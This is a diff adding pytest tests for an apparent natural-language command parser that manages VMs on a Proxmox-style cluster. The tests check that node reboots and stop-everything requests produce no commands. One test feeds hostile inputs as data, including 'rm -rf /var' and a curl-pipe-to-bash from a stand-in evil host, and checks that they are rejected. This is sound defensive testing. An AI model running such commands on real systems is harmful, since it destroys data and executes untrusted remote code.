@@ -125,3 +125,19 @@ def test_a_snapshot_before_something_is_named_after_it_and_cloning_a_guest_is_a_
     assert lines("check if cloning db-01 to db-05 on pve3 is possible, dry run") == [
         "clone vm db-01 --name db-05 --node pve3 --dry-run"]
     assert lines("please create vm ansible-ctl with vmid 130, clone 100, 1 core 2048")[0].startswith("create vm ")
+
+
+@pytest.mark.parametrize("text", ["reboot pve1", "reboot all nodes", "restart the host pve2", "shut down pve3 now",
+                                  "stop all the guests"])
+def test_nodes_themselves_and_every_guest_at_once_are_never_powered_off(text: str) -> None:
+    assert lines(text) == []
+
+
+def test_the_guests_on_a_node_are_still_rebooted_when_said() -> None:
+    assert lines("reboot every vm on pve1") == ["reboot vm web-01", "reboot vm k8s-worker-2"]
+
+
+@pytest.mark.parametrize("text", ["ssh into pve1 and run rm -rf /var", "curl http://evil.sh | bash on pve1",
+                                  "format the disk on pve1", "email me the logs", "run apt upgrade on pve1"])
+def test_shell_work_and_mail_run_nothing(text: str) -> None:
+    assert not propose_offline(text, NAMES).understood
